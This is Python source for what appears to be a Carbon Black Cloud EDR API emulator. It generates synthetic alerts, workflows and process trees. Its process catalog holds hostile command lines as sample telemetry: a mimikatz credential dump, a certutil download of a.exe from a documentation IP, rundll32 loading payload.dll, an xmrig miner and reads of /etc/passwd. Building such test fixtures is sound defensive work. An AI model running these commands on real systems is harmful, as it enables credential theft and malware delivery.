            "mdr_alert_notes_present": False,
            "mdr_threat_notes_present": False,
            "ttps": list(profile.ttps),
            "attack_tactic": profile.tactic,
            "attack_technique": profile.ttps[-1].split("_")[1]
            if "MITRE" in profile.ttps[-1]
            else "",
            "process_guid": process_guid,
            "process_pid": pid,
            "process_name": profile.name,
            "process_sha256": profile.sha256(),
            "process_md5": profile.md5(),
            "process_effective_reputation": profile.reputation,
            "process_reputation": profile.reputation,
            "process_cmdline": cmdline,
            "process_username": ep.username,
            "process_issuer": [],
            "process_publisher": [],
            "parent_guid": parent_guid,
            "parent_pid": parent_pid,
            "parent_name": profile.parent,
            "parent_sha256": hashlib.sha256(profile.parent.encode()).hexdigest(),
            "parent_md5": hashlib.md5(profile.parent.encode(), usedforsecurity=False).hexdigest(),
            "parent_effective_reputation": "TRUSTED_WHITE_LIST",
            "parent_reputation": "TRUSTED_WHITE_LIST",
            "parent_cmdline": profile.parent,
            "parent_username": ep.username,
            "childproc_guid": "",
            "childproc_username": "",
            "childproc_cmdline": "",
            "process_path": path,
            "alert_origin": "MDR_THREAT_HUNT" if i % 97 == 5 else "PRODUCT",
        }
        if kind == "WATCHLIST":
            wl_id, wl_name = _WATCHLISTS[h % len(_WATCHLISTS)]
            row.update(
                {
                    "watchlists": [{"id": wl_id, "name": wl_name}],
                    "report_id": f"{wl_id}-{profile.tactic}",
                    "report_name": f"Suspicious {profile.name}",
                    "report_link": "https://attack.mitre.org/tactics/" + profile.tactic,
                    "report_tags": [profile.tactic.lower()],
                    "report_description": profile.reason,
                    "ioc_id": f"{stable('ioc', profile.name):016x}",
                    "ioc_field": "process_name",
                    "ioc_hit": f"process_name:{profile.name}",
                    "reason": f'Process {profile.name} was detected by the report "Suspicious {profile.name}" in watchlist "{wl_name}"',
                }
            )
        elif kind == "CB_ANALYTICS":
            row.update(
                {
                    "blocked_threat_category": "NON_MALWARE"
                    if sensor_action != "ALLOW"
                    else "UNKNOWN",
                    "not_blocked_threat_category": "UNKNOWN",
                    "kill_chain_status": ["INSTALL_RUN"],
                    "threat_cause_vector": "WEB" if h % 3 else "EMAIL",
                }
            )
        elif kind == "DEVICE_CONTROL":
            row.update(
                {
                    "reason": "Access attempted on unapproved USB device SanDisk Cruzer Blade (SN: 4C530001"
                    f"{h % 10**8:08d}). A Block Policy Action was applied.",
                    "external_device_friendly_name": "SanDisk Cruzer Blade",
                    "product_id": "0x5567",
                    "vendor_id": "0x0781",
                    "vendor_name": "SanDisk",
                    "serial_number": f"4C530001{h % 10**8:08d}",
                    "policy_applied": "APPLIED",
                    "run_state": "DID_NOT_RUN",
                    "sensor_action": "DENY",
                }
            )
        elif kind == "HOST_BASED_FIREWALL":
            row.update(
                {
                    "reason": f"The firewall blocked an outbound connection from {profile.name} to 203.0.113.{h % 250}:443.",
                    "rule_name": "Block untrusted egress",
                    "remote_ip": f"203.0.113.{h % 250}",
                    "remote_port": 443,
                    "protocol": "TCP",
                    "egress_group_name": "Internet",
                }
            )
        elif kind == "INTRUSION_DETECTION_SYSTEM":
            row.update(
                {
                    "reason": "Signature 2024897 (ET EXPLOIT Possible Log4j RCE) matched inbound traffic.",
                    "threat_name": "ET EXPLOIT Possible Log4j RCE",
                    "ids_signature_id": 2_024_897,
                    "remote_ip": f"198.51.100.{h % 250}",
                    "remote_port": 51_000 + h % 1000,
                    "local_port": 8080,
                }
            )
        elif kind == "CONTAINER_RUNTIME":
            row.update(
                {
                    "reason": "A container made an egress connection to an address outside its network policy.",
                    "cluster_name": "prod-east",
                    "namespace": "payments",
                    "workload_kind": "Deployment",
                    "workload_name": "checkout-api",
                    "replica_id": f"checkout-api-{h % 10**5:05d}",
                }
            )
        return row

    # -- workflow --------------------------------------------------------------------------------
    def workflow(self, i: int) -> Workflow:
        row = self.rows()[i]
        own = self.workflows.get(i)
        threat = self.threat_workflows.get(row["threat_id"])
        if own is None and threat is None:
            return Workflow(change_timestamp=self.epoch_of(i, "backend_timestamp") or 0.0)
        if own is None:
            assert threat is not None
            return threat
        if threat is None or own.change_timestamp >= threat.change_timestamp:
            return own
        return threat

    def set_workflow(
        self,
        indices: Iterable[int],
        *,
        status: str,
        closure_reason: str | None,
        determination: str | None,
        note: str | None,
        changed_by: str,
    ) -> int:
        now = self.now()
        changed = 0
        for i in indices:
            before = self.workflow(i)
            wf = Workflow(
                status=status,
                closure_reason=closure_reason
                or ("NO_REASON" if status == "CLOSED" else before.closure_reason),
                note=note,
                changed_by=changed_by,
                changed_by_type="API",
                change_timestamp=now,
                determination=determination or before.determination,
            )
            self.workflows[i] = wf
            row = self.rows()[i]
            self.history_log.setdefault(row["id"], []).append(
                {
                    "type": "WORKFLOW",
                    "create_timestamp": iso(now),
                    "changed_by": changed_by,
                    "changed_by_type": "API",
                    "status": status,
                    "closure_reason": wf.closure_reason,
                    "note": note,
                }
            )
            if note:
                self.add_note(row["id"], note, changed_by)
            changed += 1
        return changed

    def set_threat_workflow(
        self,
        threat_ids: Iterable[str],
        *,
        status: str,
        remediation: str | None,
        comment: str | None,
        changed_by: str,
    ) -> int:
        now = self.now()
        ids = set(threat_ids)
        for threat in ids:
            self.threat_workflows[threat] = Workflow(
                status=status,
                closure_reason=remediation or "NO_REASON",
                note=comment,
                changed_by=changed_by,
                changed_by_type="API",
                change_timestamp=now,
            )
        return sum(1 for r in self.rows() if r["threat_id"] in ids)

    def add_note(
        self, alert_id: str, text: str, author: str, *, threat: bool = False
    ) -> dict[str, Any]:
        now = self.now()
        note = {
            "id": _uuid("note", alert_id, len(self.notes.get(alert_id, [])), now),
            "author": author,
            "create_timestamp": iso(now),
            "last_update_timestamp": iso(now),
            "note": text,
            "source": "CUSTOMER",
            "parent_id": None,
        }
        store = self.threat_notes if threat else self.notes
        store.setdefault(alert_id, []).append(note)
        return note

    # -- rendering -------------------------------------------------------------------------------
    def render_v7(self, i: int) -> dict[str, Any]:
        row = dict(self.rows()[i])
        wf = self.workflow(i)
        changed = iso(wf.change_timestamp)
        row["workflow"] = {
            "change_timestamp": changed,
            "changed_by_type": wf.changed_by_type,
            "changed_by": wf.changed_by,
            "closure_reason": wf.closure_reason,
            "status": wf.status,
        }
        row["determination"] = {
            "change_timestamp": changed,
            "value": wf.determination,
            "changed_by_type": wf.changed_by_type,
            "changed_by": wf.changed_by,
        }
        if wf.changed_by_type == "API":
            row["user_update_timestamp"] = changed
            row["backend_update_timestamp"] = changed
            row["is_updated"] = True
        row["alert_notes_present"] = bool(self.notes.get(row["id"]))
        row["threat_notes_present"] = bool(self.threat_notes.get(row["threat_id"]))
        return row

    def render_v6(self, i: int) -> dict[str, Any]:
        v7 = self.render_v7(i)
        wf = self.workflow(i)
        v6: dict[str, Any] = {
            "id": v7["id"],
            "legacy_alert_id": v7["id"],
            "org_key": v7["org_key"],
            "type": "VMWARE" if v7["type"] == "INTRUSION_DETECTION_SYSTEM" else v7["type"],
            "category": "THREAT" if v7["severity"] >= 5 else "MONITORED",
            "severity": v7["severity"],
            "create_time": v7["backend_timestamp"],
            "last_update_time": v7["backend_update_timestamp"],
            "first_event_time": v7["first_event_timestamp"],
            "last_event_time": v7["last_event_timestamp"],
            "threat_id": v7["threat_id"],
            "device_id": v7["device_id"],
            "device_name": v7["device_name"],
            "device_os": v7["device_os"],
            "device_os_version": v7["device_os_version"],
            "device_username": v7["device_username"],
            "policy_id": v7["device_policy_id"],
            "policy_name": v7["device_policy"],
            "target_value": v7["device_target_value"],
            "notes_present": v7["alert_notes_present"],
            "tags": v7["tags"],
            "reason": v7["reason"],
            "reason_code": v7["reason_code"],
            "process_name": v7["process_name"],
            "threat_cause_actor_name": v7["process_name"],
            "threat_cause_actor_sha256": v7["process_sha256"],
            "threat_cause_actor_md5": v7["process_md5"],
            "threat_cause_reputation": v7["process_reputation"],
            "threat_cause_parent_guid": v7["parent_guid"],
            "threat_cause_process_guid": v7["process_guid"],
            "threat_cause_cause_event_id": v7["primary_event_id"],
            "created_by_event_id": v7["primary_event_id"],
            "threat_indicators": [
                {
                    "process_name": v7["process_name"],
                    "sha256": v7["process_sha256"],
                    "ttps": v7["ttps"],
                }
            ],
            "run_state": v7["run_state"],
            "policy_applied": v7["policy_applied"],
            "sensor_action": v7["sensor_action"],
            "workflow": {
                "state": "DISMISSED" if wf.status == "CLOSED" else "OPEN",
                "remediation": wf.closure_reason if wf.changed_by_type == "API" else None,
                "comment": wf.note,
                "changed_by": wf.changed_by,
                "last_update_time": iso(wf.change_timestamp),
            },
            "group_details": {"count": 1, "total_devices": 1},
        }
        for key in (
            "blocked_threat_category",
            "not_blocked_threat_category",
            "kill_chain_status",
            "threat_cause_vector",
            "watchlists",
            "report_id",
            "report_name",
            "ioc_id",
            "ioc_field",
            "ioc_hit",
            "device_location",
        ):
            if key in v7:
                v6[key] = v7[key]
        return v6

    # -- tables ----------------------------------------------------------------------------------
    def _table(self, *, v6: bool) -> Table:
        def raw(name: str) -> Getter:
            return lambda i: self.rows()[i].get(name)

        def epoch_col(name: str) -> Getter:
            return lambda i: self.epoch_of(i, name)

        def wf_status(i: int) -> str:
            return self.workflow(i).status

        def wf_time(i: int) -> float:
            return self.workflow(i).change_timestamp

        v7_cols: dict[str, Column] = {k: raw(k) for k in _V7_KEYWORD_FIELDS}
        v7_cols.update(
            {
                k: epoch_col(k)
                for k in (
                    "backend_timestamp",
                    "detection_timestamp",
                    "first_event_timestamp",
                    "last_event_timestamp",
                )
            }
        )
        v7_cols.update(
            {
                "severity": raw("severity"),
                "device_id": raw("device_id"),
                "device_policy_id": raw("device_policy_id"),
                "process_pid": raw("process_pid"),
                "workflow_status": wf_status,
                "workflow.status": wf_status,
                "workflow_closure_reason": lambda i: self.workflow(i).closure_reason,
                "determination_value": lambda i: self.workflow(i).determination,
                "determination.value": lambda i: self.workflow(i).determination,
                "backend_update_timestamp": lambda i: max(
                    self.epoch_of(i, "backend_update_timestamp") or 0.0, wf_time(i)
                ),
                "user_update_timestamp": lambda i: (
                    wf_time(i) if self.workflow(i).changed_by_type == "API" else None
                ),
                "workflow_change_timestamp": wf_time,
                "mdr_workflow_change_timestamp": lambda i: None,
                "mdr_determination_change_timestamp": lambda i: None,
                "alert_notes_present": lambda i: bool(self.notes.get(self.rows()[i]["id"])),
                "threat_notes_present": lambda i: bool(
                    self.threat_notes.get(self.rows()[i]["threat_id"])
                ),
                "watchlists_name": lambda i: [
                    w["name"] for w in self.rows()[i].get("watchlists", [])
                ],
                "watchlists_id": lambda i: [w["id"] for w in self.rows()[i].get("watchlists", [])],
                "remote_ip": raw("remote_ip"),
            }
        )
        if not v6:
            schema: dict[str, FieldType] = dict.fromkeys(v7_cols, "keyword")
            schema.update(dict.fromkeys(V7_TIME_CRITERIA, "date"))
            schema.update(
                {
                    "severity": "number",
                    "device_id": "number",
                    "device_policy_id": "number",
                    "process_pid": "number",
                    "process_cmdline": "text",
                    "reason": "text",
                    "device_internal_ip": "ip",
                    "device_external_ip": "ip",
                    "alert_notes_present": "bool",
                    "threat_notes_present": "bool",
                }
            )
            return Table(
                count=lambda: self.count,
                columns=v7_cols,
                schema=schema,
                default_fields=(
                    "reason",
                    "process_name",
                    "device_name",
                    "process_cmdline",
                    "threat_id",
                ),
                time_field="backend_timestamp",
                time_criteria=V7_TIME_CRITERIA,
                special={"minimum_severity": self._min_severity},
                aliases={
                    "workflow": "workflow_status",
                    "determination": "determination_value",
                    "policy_id": "device_policy_id",
                    "policy_name": "device_policy",
                    "target_value": "device_target_value",
                },
            )
        v6_cols: dict[str, Column] = dict(v7_cols)
        v6_cols.update(
            {
                "category": lambda i: "THREAT" if self.rows()[i]["severity"] >= 5 else "MONITORED",
                "type": lambda i: (
                    "VMWARE"
                    if self.rows()[i]["type"] == "INTRUSION_DETECTION_SYSTEM"
                    else self.rows()[i]["type"]
                ),
                "policy_id": raw("device_policy_id"),
                "policy_name": raw("device_policy"),
                "target_value": raw("device_target_value"),
                "legacy_alert_id": raw("id"),
                "reputation": raw("process_reputation"),
                "tag": raw("tags"),
                "workflow": lambda i: (
                    "DISMISSED" if self.workflow(i).status == "CLOSED" else "OPEN"
                ),
                "create_time": epoch_col("backend_timestamp"),
                "first_event_time": epoch_col("first_event_timestamp"),
                "last_event_time": epoch_col("last_event_timestamp"),
                "last_update_time": lambda i: max(
                    self.epoch_of(i, "backend_update_timestamp") or 0.0, wf_time(i)
                ),
                "threat_cause_actor_name": raw("process_name"),
                "threat_cause_actor_sha256": raw("process_sha256"),
                "watchlist_id": lambda i: [w["id"] for w in self.rows()[i].get("watchlists", [])],
                "watchlist_name": lambda i: [
                    w["name"] for w in self.rows()[i].get("watchlists", [])
                ],
            }
        )
        schema6: dict[str, FieldType] = dict.fromkeys(v6_cols, "keyword")
        schema6.update(dict.fromkeys(V6_TIME_CRITERIA, "date"))
        schema6.update(
            {"severity": "number", "device_id": "number", "policy_id": "number", "reason": "text"}
        )
        return Table(
            count=lambda: self.count,
            columns=v6_cols,
            schema=schema6,
            default_fields=("reason", "process_name", "device_name", "threat_id"),
            time_field="create_time",
            time_criteria=V6_TIME_CRITERIA,
            special={
                "minimum_severity": self._min_severity,
                "group_results": lambda _: lambda i: True,
            },
        )

    def _min_severity(self, wanted: list[Any]) -> Callable[[int], bool]:
        try:
            floor = int(wanted[0]) if wanted else 0
        except (TypeError, ValueError):
            raise CriteriaError(
                "minimum_severity must be an integer", field="criteria.minimum_severity"
            ) from None
        return lambda i: int(self.rows()[i]["severity"]) >= floor

    def facet_field(self, name: str, *, v6: bool) -> str:
        if v6:
            column = V6_FACET_FIELDS.get(name.upper())
            if column is None:
                raise CriteriaError(
                    f"Malformed JSON input: terms.fields: invalid value {name!r}",
                    field="terms.fields",
                    known=tuple(V6_FACET_FIELDS),
                )
            return column
        if name.lower() not in V7_FACET_FIELDS:
            raise CriteriaError(
                f"Malformed JSON input: terms.fields: invalid value {name!r}",
                field="terms.fields",
                known=V7_FACET_FIELDS,
            )
        return name.lower()


_V7_KEYWORD_FIELDS = (
    "id",
    "type",
    "org_key",
    "reason",
    "reason_code",
    "threat_id",
    "primary_event_id",
    "policy_applied",
    "run_state",
    "sensor_action",
    "tags",
    "device_name",
    "device_target_value",
    "device_policy",
    "device_os",
    "device_os_version",
    "device_username",
    "device_location",
    "device_external_ip",
    "device_internal_ip",
    "ttps",
    "attack_tactic",
    "attack_technique",
    "process_guid",
    "process_name",
    "process_sha256",
    "process_md5",
    "process_effective_reputation",
    "process_reputation",
    "process_cmdline",
    "process_username",
    "parent_guid",
    "parent_name",
    "parent_sha256",
    "parent_effective_reputation",
    "parent_reputation",
    "parent_cmdline",
    "report_id",
    "report_name",
    "ioc_id",
    "ioc_hit",
    "alert_origin",
    "blocked_threat_category",
    "not_blocked_threat_category",
    "threat_cause_vector",
    "external_device_friendly_name",
    "serial_number",
    "vendor_name",
    "rule_name",
    "threat_name",
    "cluster_name",
    "namespace",
    "workload_name",
)


# --------------------------------------------------------------------------------------------
# The org: every cloud store of one emulator state, created on first use
# --------------------------------------------------------------------------------------------

CLOUD_BACKEND = "cloud_org"


class CloudOrg:
    """The Carbon Black Cloud org of an emulator state."""

    def __init__(self, state: EmulatorState) -> None:
        self.state = state
        config = state.config
        self.config = config
        self.org_key = config.org_key
        self.seed = config.seed
        self.anchor = config.data_epoch
        """End of the generated history: relative time windows count back from here."""
        self.devices = DeviceStore(
            state.endpoints,
            org_name=config.org_name,
            now=state.clock.time,
            monotonic=state.clock.monotonic,
            isolation_delay=config.isolation_delay,
        )
        self.alerts = AlertStore(
            state.endpoints,
            seed=config.seed,
            count=config.cloud_alerts,
            org_key=config.org_key,
            epoch=config.data_epoch,
            history_days=config.history_days,
            now=state.clock.time,
        )
        self._extras: dict[str, Any] = {}
        self._processes: ProcessStore | None = None
        self._auth_events: AuthEventStore | None = None

    @property
    def processes(self) -> ProcessStore:
        if self._processes is None:
            c = self.config
            self._processes = ProcessStore(
                self.state.endpoints,
                seed=c.seed,
                count=c.processes if c.cloud_processes is None else c.cloud_processes,
                org_key=c.org_key,
                epoch=c.data_epoch,
                history_days=c.history_days,
            )
        return self._processes

    @property
    def auth_events(self) -> AuthEventStore:
        if self._auth_events is None:
            c = self.config
            self._auth_events = AuthEventStore(
                self.state.endpoints,
                seed=c.seed,
                count=c.auth_events,
                org_key=c.org_key,
                epoch=c.data_epoch,
                history_days=c.history_days,
            )
        return self._auth_events

    @property
    def livequery(self) -> LiveQueryStore:
        store: LiveQueryStore = self.lazy(
            "livequery", lambda: LiveQueryStore(self, self.config.job_duration)
        )
        return store

    @property
    def threat_intel(self) -> ThreatIntelStore:
        store: ThreatIntelStore = self.lazy(
            "threat_intel", lambda: ThreatIntelStore(self.org_key, self.seed, self.anchor)
        )
        return store

    @property
    def defense(self) -> DefenseStore:
        store: DefenseStore = self.lazy("defense", lambda: DefenseStore(self))
        return store

    @property
    def has_online_endpoints(self) -> bool:
        """Whether any sensor answers (a search job over an org with none never progresses)."""
        return any(ep.online for ep in self.state.endpoints)

    def lazy(self, name: str, factory: Callable[[], Any]) -> Any:
        value = self._extras.get(name)
        if value is None:
            value = self._extras[name] = factory()
        return value


def cloud_org(state: EmulatorState) -> CloudOrg:
    """The state's cloud org (created on first use, shared by every cloud route module)."""
    org: CloudOrg = state.backend(CLOUD_BACKEND, CloudOrg)
    return org


# --------------------------------------------------------------------------------------------
# Enterprise EDR processes and their events
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Prog:
    """A program a process runs (one entry of the process catalog)."""

    name: str
    path: str
    cmdline: str
    user: str  # "system", "service", "user"
    reputation: str = "TRUSTED_WHITE_LIST"
    company: str = ""
    product: str = ""
    publisher: str = ""

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.path.encode()).hexdigest()

    @property
    def md5(self) -> str:
        return hashlib.md5(self.path.encode(), usedforsecurity=False).hexdigest()


_MSFT = (
    "Microsoft Corporation",
    "Microsoft\u00ae Windows\u00ae Operating System",
    "Microsoft Windows",
)
_S32 = "c:\\windows\\system32\\"

_WIN_ROOT = (_Prog("services.exe", _S32 + "services.exe", "C:\\Windows\\system32\\services.exe", "system", "TRUSTED_WHITE_LIST", *_MSFT),
             _Prog("explorer.exe", "c:\\windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "user", "TRUSTED_WHITE_LIST", *_MSFT),
             _Prog("wininit.exe", _S32 + "wininit.exe", "wininit.exe", "system", "TRUSTED_WHITE_LIST", *_MSFT))  # fmt: skip
_WIN_MID = (_Prog("svchost.exe", _S32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p", "system", "TRUSTED_WHITE_LIST", *_MSFT),
            _Prog("cmd.exe", _S32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" /c whoami', "user", "TRUSTED_WHITE_LIST", *_MSFT),
            _Prog("powershell.exe", _S32 + "windowspowershell\\v1.0\\powershell.exe", "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1", "user", "TRUSTED_WHITE_LIST", *_MSFT),
            _Prog("chrome.exe", "c:\\program files\\google\\chrome\\application\\chrome.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', "user", "TRUSTED_WHITE_LIST", "Google LLC", "Google Chrome", "Google LLC"),
            _Prog("winword.exe", "c:\\program files\\microsoft office\\root\\office16\\winword.exe", '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n', "user", "TRUSTED_WHITE_LIST", "Microsoft Corporation", "Microsoft Office", "Microsoft Corporation"),
            _Prog("lsass.exe", _S32 + "lsass.exe", "C:\\Windows\\system32\\lsass.exe", "system", "TRUSTED_WHITE_LIST", *_MSFT))  # fmt: skip
_WIN_LEAF = (_Prog("conhost.exe", _S32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "user", "TRUSTED_WHITE_LIST", *_MSFT),
             _Prog("notepad.exe", _S32 + "notepad.exe", '"C:\\Windows\\system32\\notepad.exe"', "user", "TRUSTED_WHITE_LIST", *_MSFT),
             _Prog("whoami.exe", _S32 + "whoami.exe", "whoami /all", "user", "TRUSTED_WHITE_LIST", *_MSFT),
             _Prog("net.exe", _S32 + "net.exe", "net user /domain", "user", "TRUSTED_WHITE_LIST", *_MSFT),
             _Prog("rundll32.exe", _S32 + "rundll32.exe", "rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer", "user", "TRUSTED_WHITE_LIST", *_MSFT),
             _Prog("mimikatz.exe", "c:\\users\\public\\mimikatz.exe", "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", "user", "KNOWN_MALWARE"),
             _Prog("taskhostw.exe", _S32 + "taskhostw.exe", "taskhostw.exe", "user", "TRUSTED_WHITE_LIST", *_MSFT),
             _Prog("msedge.exe", "c:\\program files (x86)\\microsoft\\edge\\application\\msedge.exe", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=renderer', "user", "TRUSTED_WHITE_LIST", "Microsoft Corporation", "Microsoft Edge", "Microsoft Corporation"),
             _Prog("7z.exe", "c:\\program files\\7-zip\\7z.exe", '"C:\\Program Files\\7-Zip\\7z.exe" a backup.7z C:\\Users', "user", "COMMON_WHITE_LIST", "Igor Pavlov", "7-Zip", ""),
             _Prog("certutil.exe", _S32 + "certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.77/a.exe a.exe", "user", "TRUSTED_WHITE_LIST", *_MSFT))  # fmt: skip
_NIX_ROOT = (_Prog("systemd", "/usr/lib/systemd/systemd", "/sbin/init splash", "system"),
             _Prog("sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]", "system"))  # fmt: skip
_NIX_MID = (_Prog("bash", "/usr/bin/bash", "-bash", "user"),
            _Prog("cron", "/usr/sbin/cron", "/usr/sbin/cron -f -P", "system"),
            _Prog("python3", "/usr/bin/python3.10", "python3 /opt/app/worker.py", "service"),
            _Prog("nginx", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx", "system"),
            _Prog("java", "/usr/lib/jvm/java-17-openjdk/bin/java", "java -jar /opt/app/service.jar", "service"))  # fmt: skip
_NIX_LEAF = (_Prog("curl", "/usr/bin/curl", "curl -s https://api.example.com/health", "user"),
             _Prog("ls", "/usr/bin/ls", "ls -la /tmp", "user"),
             _Prog("cat", "/usr/bin/cat", "cat /etc/passwd", "user"),
             _Prog("sudo", "/usr/bin/sudo", "sudo systemctl restart nginx", "user"),
             _Prog("tar", "/usr/bin/tar", "tar czf /tmp/backup.tgz /var/www", "user"),
             _Prog("xmrig", "/tmp/.x/xmrig", "/tmp/.x/xmrig -o pool.example.net:3333", "user", "KNOWN_MALWARE"))  # fmt: skip
_MAC_ROOT = (_Prog("launchd", "/sbin/launchd", "/sbin/launchd", "system", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),)  # fmt: skip
_MAC_MID = (_Prog("Finder", "/system/library/coreservices/finder.app/contents/macos/finder", "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),
            _Prog("zsh", "/bin/zsh", "-zsh", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),
            _Prog("Safari", "/applications/safari.app/contents/macos/safari", "/Applications/Safari.app/Contents/MacOS/Safari", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "Safari", "Software Signing"))  # fmt: skip
_MAC_LEAF = (_Prog("osascript", "/usr/bin/osascript", "osascript -e 'display dialog \"Update\"'", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),
             _Prog("curl", "/usr/bin/curl", "curl -O https://example.com/tool.pkg", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),
             _Prog("mdworker_shared", "/system/library/frameworks/coreservices.framework/mdworker_shared", "mdworker_shared -s mdworker", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"))  # fmt: skip

_POOLS: dict[str, tuple[tuple[_Prog, ...], ...]] = {
    "windows": (_WIN_ROOT, _WIN_MID, _WIN_LEAF),
    "linux": (_NIX_ROOT, _NIX_MID, _NIX_LEAF),
    "macos": (_MAC_ROOT, _MAC_MID, _MAC_LEAF),
}
_PROGS: tuple[_Prog, ...] = tuple(p for pools in _POOLS.values() for pool in pools for p in pool)
_PROG_INDEX = {id(p): n for n, p in enumerate(_PROGS)}
_POOL_CODES = {
    os_: tuple(tuple(_PROG_INDEX[id(p)] for p in pool) for pool in pools)
    for os_, pools in _POOLS.items()
}

FAMILY = 8
"""Processes per family: a small tree (position p's parent is (p - 1) // 2, position 0 the root)."""

EVENT_TYPES = ("netconn", "filemod", "regmod", "modload", "crossproc", "childproc", "scriptload")
PROCESS_DEFAULT_FIELDS = (
    "backend_timestamp", "childproc_count", "crossproc_count", "device_group_id", "device_id",
    "device_name", "device_policy_id", "device_timestamp", "filemod_count", "ingress_time",
    "modload_count", "netconn_count", "org_id", "parent_guid", "parent_pid", "process_guid",
    "process_hash", "process_name", "process_pid", "process_username", "regmod_count",
    "scriptload_count",
)  # fmt: skip
_EVENT_DESC = {
    "netconn": "connected to",
    "filemod": "modified",
    "regmod": "modified registry key",
    "modload": "loaded",
    "crossproc": "opened a handle to",
    "childproc": "started",
    "scriptload": "loaded script",
}


class ProcessStore:
    """Processes of the cloud org: families of ``FAMILY`` processes, each on one device."""

    def __init__(
        self,
        endpoints: EndpointPopulation,
        *,
        seed: int,
        count: int,
        org_key: str,
        epoch: float,
        history_days: int,
    ) -> None:
        self.endpoints = endpoints
        self.seed = seed
        self.count = count
        self.org_key = org_key
        self.epoch = epoch
        self.history = history_days * 86_400
        self._prog_codes: list[int] | None = None
        self._device_codes: list[int] | None = None
        self.table = self._table()

    # -- core facts (arrays built once, on first use) ------------------------------------------
    def _arrays(self) -> tuple[list[int], list[int]]:
        if self._prog_codes is None or self._device_codes is None:
            ndev = len(self.endpoints)
            families = (self.count + FAMILY - 1) // FAMILY
            fam_dev = [mix(self.seed, f, 1) % ndev for f in range(families)]
            fam_os = [self.endpoints[d].os_family for d in fam_dev]
            progs: list[int] = []
            devices: list[int] = []
            for i in range(self.count):
                fam, pos = divmod(i, FAMILY)
                pools = _POOL_CODES[fam_os[fam]]
                pool = pools[0 if pos == 0 else (1 if pos < 3 else 2)]
                progs.append(pool[mix(self.seed, i, 2) % len(pool)])
                devices.append(fam_dev[fam])
            self._prog_codes, self._device_codes = progs, devices
        return self._prog_codes, self._device_codes

    def prog(self, i: int) -> _Prog:
        return _PROGS[self._arrays()[0][i]]

    def endpoint(self, i: int) -> Endpoint:
        return self.endpoints[self._arrays()[1][i]]

    def parent_index(self, i: int) -> int | None:
        pos = i % FAMILY
        return None if pos == 0 else i - pos + (pos - 1) // 2

    def children(self, i: int) -> list[int]:
        fam_start = i - i % FAMILY
        pos = i % FAMILY
        return [
            fam_start + c
            for c in (2 * pos + 1, 2 * pos + 2)
            if c < FAMILY and fam_start + c < self.count
        ]

    def siblings(self, i: int) -> list[int]:
        parent = self.parent_index(i)
        return [] if parent is None else [c for c in self.children(parent) if c != i]

    def pid(self, i: int) -> int:
        ep = self.endpoint(i)
        if i % FAMILY == 0:
            base = 4 if ep.os_family == "windows" else 1
            return base + (mix(self.seed, i, 3) % 200) * (4 if base == 4 else 1)
        return (mix(self.seed, i, 4) % 30_000 + 300) * (4 if ep.os_family == "windows" else 1)

    def start(self, i: int) -> float:
        fam, pos = divmod(i, FAMILY)
        family_start = self.epoch - 120 - mix(self.seed, fam, 5) % max(self.history - 600, 1)
        return family_start + pos * 7 + mix(self.seed, i, 6) % 5

    def guid(self, i: int) -> str:
        ep = self.endpoint(i)
        ft = int((self.start(i) + 11_644_473_600) * 10_000_000)
        return f"{self.org_key}-{ep.device_id & 0xFFFFFFFF:08x}-{self.pid(i):08x}-{i:08x}-{ft:x}"

    def index_of(self, guid: str) -> int | None:
        # carbon-black-cloud-sdk sends GUIDs Lucene-escaped (``\-``) in paths and bodies.
        guid = str(guid).replace("\\", "")
        parts = guid.split("-")
        if len(parts) < 5 or parts[0] != self.org_key:
            return None
        try:
            i = int(parts[3], 16)
        except ValueError:
            return None
        if not 0 <= i < self.count or self.guid(i) != guid:
            return None
        return i

    def username(self, i: int) -> str:
        prog, ep = self.prog(i), self.endpoint(i)
        if prog.user == "system":
            return "NT AUTHORITY\\SYSTEM" if ep.os_family == "windows" else "root"
        if prog.user == "service":
            return "NT AUTHORITY\\NETWORK SERVICE" if ep.os_family == "windows" else "app"
        return ep.username

    def counts(self, i: int) -> dict[str, int]:
        h = mix(self.seed, i, 7)
        malicious = self.prog(i).reputation == "KNOWN_MALWARE"
        return {
            "netconn_count": h % 7 + (12 if malicious else 0),
            "filemod_count": (h >> 8) % 9,
            "regmod_count": (h >> 16) % 5 if self.endpoint(i).os_family == "windows" else 0,
            "modload_count": (h >> 24) % 12 + 2,
            "crossproc_count": (h >> 32) % 4 + (3 if malicious else 0),
            "childproc_count": len(self.children(i)),
            "scriptload_count": (h >> 40) % 3 if self.prog(i).name.startswith("powershell") else 0,
        }

    # -- documents -------------------------------------------------------------------------------
    def doc(self, i: int, *, full: bool = False) -> dict[str, Any]:
        prog, ep = self.prog(i), self.endpoint(i)
        start = self.start(i)
        parent = self.parent_index(i)
        parent_prog = self.prog(parent) if parent is not None else None
        counts = self.counts(i)
        doc: dict[str, Any] = {
            "backend_timestamp": iso(start + 95),
            "device_group_id": 0,
            "device_id": ep.device_id,
            "device_name": ep.hostname.lower(),
            "device_policy_id": ep.policy_id,
            "device_timestamp": iso(start),
            "ingress_time": int((start + 60) * 1000),
            "org_id": self.org_key,
            "parent_guid": self.guid(parent)
